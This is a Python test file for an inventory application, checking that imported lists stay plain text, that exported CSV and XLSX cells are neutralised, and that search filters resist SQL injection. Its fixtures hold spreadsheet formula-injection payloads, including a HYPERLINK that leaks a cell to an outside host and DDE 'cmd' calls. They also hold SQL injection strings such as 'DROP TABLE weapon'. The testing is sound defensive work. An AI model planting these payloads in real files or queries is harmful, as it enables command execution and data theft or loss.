"""Lists made to be worked out by a spreadsheet, or to be run by the database, are only text."""

from __future__ import annotations

import csv
from dataclasses import fields

import openpyxl
import pytest

from stockpile.services.ports import RegisterFilter
from tests.helpers.commands import INIT, Shell
from tests.helpers.lists import a_csv, a_workbook

STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = (
    '=HYPERLINK("http://x/?"&A1,"K1")', "+1+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0", "\tK5", "\rK6", "K7'); DROP TABLE weapon;--",
)  # fmt: skip
HEADER = ["Serial", "Type", "Make", "Model", "Remarks"]
ROWS = [HEADER, *(["K" + str(n), "rifle", text, text, text] for n, text in enumerate(HOSTILE))]
QUESTIONS = (
    "'", '"', "';--", "' OR '1'='1", '" OR ""="', "%", "_", "*", "KB*", "NEAR(a b)", "words:KB",
    "-KB", "^KB", "KB) OR (1", "\\", "\x00", "KB\x00x", "); DROP TABLE weapon;--", "{KB} : x",
    "AND", "NOT NOT", "a" * 10_000, "(" * 500, "\u202eBK", "[a-z]*", "?1", ":name", "1; SELECT 1",
)  # fmt: skip


@pytest.fixture(scope="module")
def shell(tmp_path_factory):
    """A home that took the hostile list in, as CSV and as a workbook."""
    folder = tmp_path_factory.mktemp("lists")
    shell = Shell(folder / "home")
    shell.ok(*INIT)
    shell.ok("import", a_csv(folder, ROWS))
    shell.ok("import", a_workbook(folder, ("List", [HEADER, ["X1", "rifle", *["+1+1"] * 3]])))
    return shell


def test_a_hostile_list_is_taken_in_as_text_and_nothing_else_happens(shell):
    checked = shell.ok("check", "--deep")
    assert checked["weapons"] == len(HOSTILE) + 1


def test_no_cell_of_a_csv_that_leaves_begins_a_formula(shell, tmp_path):
    shell.ok("export", tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as opened:
        cells = [cell for row in csv.reader(opened) for cell in row]
    assert any(cell.startswith("'+1+cmd") for cell in cells)
    assert [cell for cell in cells if cell.startswith(STARTS)] == []


def test_no_cell_of_a_workbook_that_leaves_is_a_formula(shell, tmp_path):
    shell.ok("export", tmp_path / "out.xlsx")
    cells = [
        cell
        for sheet in openpyxl.load_workbook(tmp_path / "out.xlsx").worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert any(str(cell.value).startswith("+1+cmd") for cell in cells)
    assert {cell.data_type for cell in cells} == {"s"}


def test_what_left_as_csv_comes_back_as_it_was(shell, tmp_path):
    shell.ok("export", tmp_path / "out.csv")
    again = Shell(tmp_path / "again")
    again.ok(*INIT)
    again.ok("import", tmp_path / "out.csv")
    for home in (shell, again):
        home.ok("export", home.home / "all.json", "--columns", "serial,model")
    one, other = ((home.home / "all.json").read_text().splitlines() for home in (shell, again))
    assert sorted(line.rstrip(",") for line in one[1:]) == sorted(
        line.rstrip(",") for line in other[1:]
    )


def test_no_search_box_and_no_filter_is_a_door_to_the_database(house):
    house.register("KB 1", remarks="in store")
    register, names = (
        house.stockpile.register,
        [one.name for one in fields(RegisterFilter) if one.type == "str"],
    )
    assert len(names) > 10
    for question in QUESTIONS:
        for hits in (
            register.find(question, 5), register.find(question, 5, fuzzy=True),
            register.look_alikes(question, 5),
        ):  # fmt: skip
            assert isinstance(hits, tuple)
        for name in names:
            among = RegisterFilter(**{name: question})
            assert register.count(among) == len(register.page("serial", 0, 5, among)), name
            if name in ("type", "make", "model", "calibre", "condition", "year"):
                register.values(name, among)
    assert register.count(RegisterFilter()) == 1
    assert register.count(RegisterFilter(make="%")) == 0
    assert register.count(RegisterFilter(model="_KM")) == 0
    house.stockpile.checking.check(deep=True)
